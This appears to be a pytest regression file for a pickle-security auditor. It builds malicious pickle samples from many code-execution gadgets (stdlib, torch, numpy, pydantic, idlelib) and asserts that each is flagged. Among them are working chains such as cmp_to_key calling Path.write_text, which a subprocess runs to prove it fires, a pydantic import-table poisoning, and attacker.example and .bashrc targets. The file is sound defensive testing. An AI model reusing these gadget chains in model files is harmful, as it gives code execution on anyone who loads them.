"""Regression tests for pickle techniques of threats.md §3.1 (gadgets) that the unit tests do
not already pin, end to end through ``run_audit``. docs/scorecard.md maps every row to a test.

Gadget samples are static: each test asserts the rule, the decompiled call and its offset.
Where a chain is new (callback dispatch), a subprocess proves the real loader runs it.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from technique_samples import (
    MARK,
    MEMOIZE,
    PROTO4,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    call,
    call_pickle,
    global_op,
    one,
    s,
    write_audit,
)

from canary import Canary, fires_in_subprocess
from pellucid.model import Severity

CODE_EXEC = ("PCL-PKL-002", "PCL-PKL-003")  # known gadget, or a walk through a module attribute


def _assert_gadget(
    tmp_path: Path, module: str, qualname: str, arg: str, rules: tuple[str, ...] = CODE_EXEC
) -> None:
    data = call_pickle(module, qualname, arg)
    report = write_audit(tmp_path / "model.pkl", data)
    snippet = f"{module}.{qualname}({arg!r})"
    hits = [f for f in report.findings if f.rule_id in rules and f.evidence.snippet == snippet]
    seen = [(f.rule_id, f.evidence.snippet) for f in report.findings]
    assert len(hits) == 1, f"{snippet} not reported as {rules}: {seen}"
    assert hits[0].blocking
    assert hits[0].evidence.offset == data.index(STACK_GLOBAL)
    if rules == CODE_EXEC:
        assert hits[0].severity is Severity.CRITICAL


@pytest.mark.parametrize("qualname", ["Trace.run", "Trace.runctx", "Trace.runfunc"])
def test_trace_exec_string(tmp_path: Path, canary: Canary, qualname: str) -> None:
    _assert_gadget(tmp_path, "trace", qualname, canary.python)


@pytest.mark.parametrize(
    ("module", "qualname"),
    [
        ("idlelib.autocomplete", "AutoComplete.get_entity"),
        ("idlelib.autocomplete", "AutoComplete.fetch_completions"),
        ("idlelib.calltip", "Calltip.fetch_tip"),
        ("idlelib.calltip", "get_entity"),
        ("idlelib.debugobj", "ObjectTreeItem.SetText"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcommand"),
        ("idlelib.run", "Executive.runcode"),
    ],
)
def test_idlelib_eval_exec_methods(
    tmp_path: Path, canary: Canary, module: str, qualname: str
) -> None:
    _assert_gadget(tmp_path, module, qualname, canary.python)


@pytest.mark.parametrize(
    ("module", "qualname"),
    [
        ("lib2to3.pgen2.grammar", "Grammar.loads"),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
    ],
)
def test_lib2to3_grammar_loads_and_make_label(
    tmp_path: Path, canary: Canary, module: str, qualname: str
) -> None:
    _assert_gadget(tmp_path, module, qualname, canary.python)


@pytest.mark.parametrize(
    ("module", "qualname"), [("doctest", "debug_script"), ("ensurepip", "_run_pip")]
)
def test_doctest_debug_script_and_ensurepip_run_pip(
    tmp_path: Path, canary: Canary, module: str, qualname: str
) -> None:
    _assert_gadget(tmp_path, module, qualname, canary.python)


@pytest.mark.parametrize(
    ("module", "qualname"),
    [
        ("torch.utils.bottleneck.__main__", "run_cprofile"),
        ("torch.utils.bottleneck.__main__", "run_autograd_prof"),
        ("torch._dynamo.guards", "GuardBuilder.get"),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
        ("torch.utils.collect_env", "run"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper"),
        ("torch._inductor.codecache", "compile_file"),
        ("torch.utils._config_module", "ConfigModule.load_config"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
    ],
)
def test_torch_internal_gadgets(tmp_path: Path, canary: Canary, module: str, qualname: str) -> None:
    _assert_gadget(tmp_path, module, qualname, canary.python)


@pytest.mark.parametrize(
    ("module", "qualname"),
    [("numpy.f2py.crackfortran", "getlincoef"), ("numpy.testing._private.utils", "runstring")],
)
def test_numpy_eval_exec_gadgets(
    tmp_path: Path, canary: Canary, module: str, qualname: str
) -> None:
    _assert_gadget(tmp_path, module, qualname, canary.python)


@pytest.mark.parametrize(
    ("module", "qualname"),
    [("operator", "attrgetter"), ("_operator", "itemgetter"), ("pydoc", "locate")],
)
def test_operator_getters_and_pydoc_locate(tmp_path: Path, module: str, qualname: str) -> None:
    _assert_gadget(tmp_path, module, qualname, "os.system")


def test_pty_spawn_terminal(tmp_path: Path, canary: Canary) -> None:
    _assert_gadget(tmp_path, "pty", "spawn", canary.shell)


@pytest.mark.parametrize(
    ("module", "qualname"),
    [
        ("distutils.file_util", "write_file"),
        ("logging", "FileHandler"),
        ("_io", "FileIO"),
        ("urllib.request", "urlopen"),
    ],
)
def test_file_and_network_primitives(tmp_path: Path, module: str, qualname: str) -> None:
    _assert_gadget(tmp_path, module, qualname, "/home/user/.bashrc")


@pytest.mark.parametrize(
    ("module", "qualname"),
    [
        ("uuid", "_get_command_stdout"),
        ("_osx_support", "_read_output"),
        ("_aix_support", "_read_cmd_output"),
        ("imaplib", "IMAP4_stream"),
        ("_pyrepl.pager", "pipe_pager"),
        ("test.support.script_helper", "assert_python_ok"),
    ],
)
def test_stdlib_helpers_hiding_a_subprocess(
    tmp_path: Path, canary: Canary, module: str, qualname: str
) -> None:
    _assert_gadget(tmp_path, module, qualname, canary.shell)


@pytest.mark.parametrize(
    ("module", "qualname"),
    [
        ("types", "CodeType"),
        ("types", "FunctionType"),
        ("cloudpickle.cloudpickle", "_make_function"),
        ("cloudpickle.cloudpickle", "_builtin_type"),
        ("marshal", "loads"),
    ],
)
def test_code_object_constructors(tmp_path: Path, module: str, qualname: str) -> None:
    _assert_gadget(tmp_path, module, qualname, "\x00")


def test_mailcap_findmatch_test_command(tmp_path: Path, canary: Canary) -> None:
    _assert_gadget(tmp_path, "mailcap", "findmatch", canary.shell)


def test_namespace_alias_of_denylisted_module(tmp_path: Path, canary: Canary) -> None:
    _assert_gadget(tmp_path, "setuptools._distutils.spawn", "spawn", canary.shell)


@pytest.mark.parametrize("qualname", ["Template", "Template.copy", "Template.open"])
def test_pipes_template_pipeline(tmp_path: Path, canary: Canary, qualname: str) -> None:
    _assert_gadget(tmp_path, "pipes", qualname, canary.shell)


def test_public_alias_operator_call(tmp_path: Path, canary: Canary) -> None:
    _assert_gadget(tmp_path, "operator", "call", canary.shell)


def test_annotation_eval_get_type_hints(tmp_path: Path, canary: Canary) -> None:
    _assert_gadget(tmp_path, "typing", "get_type_hints", canary.python)


def _cmp_to_key_write_text(target: Path) -> bytes:
    """``operator.lt(K(PosixPath(target)), K('x'))`` with ``K = cmp_to_key(Path.write_text)``:
    the comparison calls ``Path.write_text(PosixPath(target), 'x')``."""
    key = global_op("functools", "cmp_to_key") + MARK + global_op("pathlib", "Path.write_text")
    key += TUPLE + REDUCE + MEMOIZE + b"0"
    path = global_op("pathlib", "PosixPath") + MARK + s(str(target)) + TUPLE + REDUCE
    left = b"h\x00" + MARK + path + TUPLE + REDUCE
    right = b"h\x00" + MARK + s("x") + TUPLE + REDUCE
    compare = global_op("_operator", "lt") + MARK + left + right + TUPLE + REDUCE
    return PROTO4 + key + compare + STOP


def test_callback_dispatch_cmp_to_key_write_text(tmp_path: Path, canary: Canary) -> None:
    data = _cmp_to_key_write_text(canary.marker)
    report = write_audit(tmp_path / "model.pkl", data)
    finding = one(report, "PCL-PKL-002", "functools.cmp_to_key(pathlib.Path.write_text)")
    assert finding.severity is Severity.CRITICAL
    assert finding.evidence.offset == data.index(STACK_GLOBAL)
    one(report, "PCL-PKL-002", "pathlib.Path.write_text")
    marker = tmp_path / "fired"
    sample = tmp_path / "real.pkl"
    sample.write_bytes(_cmp_to_key_write_text(marker))
    loader = f"import pickle; pickle.loads(open({str(sample)!r}, 'rb').read())"
    assert fires_in_subprocess(loader, marker)


@pytest.mark.parametrize(
    ("module", "qualname"),
    [
        ("logging", "Filterer.addFilter"),
        ("logging", "Filterer.filter"),
        ("functools", "cached_property"),
    ],
)
def test_callback_dispatch_siblings(tmp_path: Path, module: str, qualname: str) -> None:
    _assert_gadget(tmp_path, module, qualname, "x")


def test_descriptor_introspection_property_touch(tmp_path: Path) -> None:
    # type('X', (), {'x': property(Path.touch)}) then inspect.getmembers(X()) runs the getter.
    prop = global_op("builtins", "property") + MARK + global_op("pathlib", "Path.touch")
    prop += TUPLE + REDUCE
    cls = global_op("builtins", "type") + MARK + s("X") + b")}" + s("x") + prop + b"s"
    cls += TUPLE + REDUCE
    data = PROTO4 + global_op("inspect", "getmembers") + MARK + cls + b")R" + TUPLE + REDUCE
    report = write_audit(tmp_path / "model.pkl", data + STOP)
    getmembers = one(report, "PCL-PKL-002", "inspect.getmembers(builtins.type('X', (), "
                     "{'x': builtins.property(pathlib.Path.touch)})())")  # fmt: skip
    assert getmembers.evidence.offset == data.index(STACK_GLOBAL)
    one(report, "PCL-PKL-002", "builtins.property(pathlib.Path.touch)")
    one(report, "PCL-PKL-002", "pathlib.Path.touch")


def test_module_registry_poisoning_pydantic(tmp_path: Path, canary: Canary) -> None:
    # SETITEM into pydantic's lazy-import table, then import the poisoned name.
    poison = global_op("pydantic", "_dynamic_imports") + s("Popen")
    poison += MARK + s("subprocess") + s("__module__") + TUPLE + b"s0"
    data = PROTO4 + poison + call("pydantic", "Popen", canary.shell) + STOP
    report = write_audit(tmp_path / "model.pkl", data)
    mutation = one(report, "PCL-PKL-004")
    assert mutation.evidence.snippet == (
        "pydantic._dynamic_imports['Popen'] = ('subprocess', '__module__')"
    )
    assert mutation.evidence.offset == data.index(b"s0")
    assert one(report, "PCL-PKL-001", f"pydantic.Popen({canary.shell!r})").blocking


@pytest.mark.parametrize(
    ("module", "qualname", "rules"),
    [
        ("multiprocessing.util", "spawnv_passfds", CODE_EXEC),
        ("mlflow.projects.backend.local", "_run_entry_point", CODE_EXEC),
        ("pandas", "read_csv", CODE_EXEC),
        ("torch.hub", "download_url_to_file", CODE_EXEC),
    ],
)
def test_third_party_gadgets(
    tmp_path: Path, module: str, qualname: str, rules: tuple[str, ...]
) -> None:
    _assert_gadget(tmp_path, module, qualname, "https://attacker.example/x", rules)


def test_unlisted_gadget_is_blocked_allowlist_first(tmp_path: Path) -> None:
    # Gadget mining finds callables no denylist names; the allowlist still blocks them.
    data = call_pickle("IPython.utils.process", "system", "x")
    report = write_audit(tmp_path / "model.pkl", data)
    finding = one(report, "PCL-PKL-001")
    assert finding.severity is Severity.HIGH
    assert finding.blocking
    assert finding.evidence.offset == data.index(STACK_GLOBAL)
    assert "IPython.utils.process:system" in finding.detail


@pytest.mark.parametrize(
    ("module", "qualname"),
    [("_posixsubprocess", "fork_exec"), ("_pickle", "loads"), ("_io", "open"), ("posix", "system")],
)
def test_private_stdlib_module_aliases(tmp_path: Path, module: str, qualname: str) -> None:
    _assert_gadget(tmp_path, module, qualname, "x")


@pytest.mark.parametrize(
    ("module", "qualname"),
    [
        ("torch._utils", "_rebuild_tensor_v2.__globals__"),
        ("collections", "OrderedDict.__init__.__globals__"),
        ("collections", "OrderedDict.fromkeys"),
    ],
)
def test_allowlist_shadowing_through_an_allowed_name(
    tmp_path: Path, module: str, qualname: str
) -> None:
    # An exact-pair allowlist must not extend to attributes walked below an allowed name.
    _assert_gadget(tmp_path, module, qualname, "x", ("PCL-PKL-001", *CODE_EXEC))
